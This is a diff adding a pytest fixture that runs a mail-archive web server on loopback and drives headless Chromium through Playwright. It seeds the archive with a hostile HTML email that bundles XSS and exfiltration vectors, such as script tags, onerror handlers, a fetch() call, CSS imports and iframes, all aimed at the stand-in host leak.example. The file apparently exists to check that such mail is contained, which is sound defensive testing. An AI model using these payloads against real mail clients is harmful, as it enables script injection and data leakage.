@@ -1,0 +1,127 @@
+"""A real Chromium against a real server on loopback."""
+
+import shutil
+import socket
+import time
+import urllib.request
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
+
+from tests.app.pages import ALICES_MAIL, PASSWORD
+from tests.archive import kill_all
+from tests.opened import Opened
+from tests.people import ALICE, BOB, CHARLIE, letter, report
+
+CHROMIUM = shutil.which("chromium")
+OPTIONS = [
+    "--headless",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+# What mail may try: run, fetch, send, leave its frame. Each would ask leak.example or change the title.
+HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://leak.example/meta">
+<link rel="stylesheet" href="http://leak.example/link.css"><base href="http://leak.example/">
+<style>@import "http://leak.example/import.css"; body{background:url(http://leak.example/style)}</style></head>
+<body onload="top.document.title='pwned'" background="http://leak.example/background">Harmloser Text
+<img src="http://leak.example/img"><img src=x onerror="top.document.title='pwned'">
+<img srcset="http://leak.example/srcset 2x"><p style="background-image:url('http://leak.example/inline')">p</p>
+<svg><image href="http://leak.example/svg"/><script>top.document.title='pwned'</script></svg>
+<iframe src="http://leak.example/iframe"></iframe><object data="http://leak.example/object"></object>
+<video poster="http://leak.example/poster" src="http://leak.example/video"></video>
+<form action="http://leak.example/form"><input type="submit" autofocus></form>
+<script src="http://leak.example/script"></script><script>fetch('http://leak.example/fetch')</script>
+<a href="javascript:top.document.title='pwned'">Klick</a></body></html>"""
+
+
+@dataclass
+class Served:
+    """A running archive, and what browsers saw that they should not."""
+
+    url: str
+    opened: Opened
+    browser: Browser
+    asked: list[str] = field(default_factory=list)  # foreign addresses
+    complaints: list[str] = field(default_factory=list)  # console errors, script errors, CSP violations
+
+    def context(self, **options: object) -> BrowserContext:
+        context = self.browser.new_context(**options)  # type: ignore[arg-type]
+        context.on("request", self._note)
+        return context
+
+    def page(self, login: str = "", **options: object) -> Page:
+        page = self.context(**options).new_page()
+        page.on("console", lambda message: message.type == "error" and self.complaints.append(message.text))
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        if login:
+            sign_in(page, self.url, login)
+        return page
+
+    def _note(self, request: object) -> None:
+        url = request.url  # type: ignore[attr-defined]
+        if not url.startswith((self.url, "data:", "about:", "blob:")):
+            self.asked.append(url)
+
+
+def sign_in(page: Page, url: str, login: str, password: str = PASSWORD) -> None:
+    page.goto(f"{url}/sign-in/")
+    page.get_by_label("Login").fill(login)
+    page.get_by_label("Password").fill(password)
+    page.get_by_role("button", name="Sign in").click()
+
+
+def search(page: Page, words: str) -> None:
+    field = page.get_by_role("searchbox")
+    field.fill(words)
+    field.press("Enter")
+    page.wait_for_url("**/search/*/")
+
+
+@pytest.fixture
+def served(new_opened: Callable[..., Opened]) -> Iterator[Served]:
+    if CHROMIUM is None:
+        pytest.skip("no chromium")
+    port = _free_port()
+    opened = new_opened(listen=f"127.0.0.1:{port}")
+    for person in (ALICE, BOB, CHARLIE):
+        opened.add_user(person.login, *person.addresses)
+    opened.add_user("otto", role="operator")
+    opened.take(
+        ALICES_MAIL,
+        report(
+            letter(2, subject="Vertraulich"), recipients=["To: alice@firma.example", "Bcc: bob@firma.example"]
+        ),
+        letter(3, subject="Falle", fields=["Content-Type: text/html; charset=utf-8"], text=HOSTILE),
+        *(letter(n, subject=f"Lieferung {n}") for n in range(10, 16)),
+    )
+    server = opened.commands.start("serve", "--web-only", "--listen", f"127.0.0.1:{port}")
+    url = f"http://127.0.0.1:{port}"
+    try:
+        _wait_for(f"{url}/health")
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS)
+            yield Served(url=url, opened=opened, browser=browser)
+            browser.close()
+    finally:
+        kill_all(server)
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def _wait_for(url: str) -> None:
+    for _ in range(150):
+        try:
+            urllib.request.urlopen(url, timeout=2).close()
+            return
+        except OSError:
+            time.sleep(0.2)
+    raise AssertionError(f"{url} does not answer")
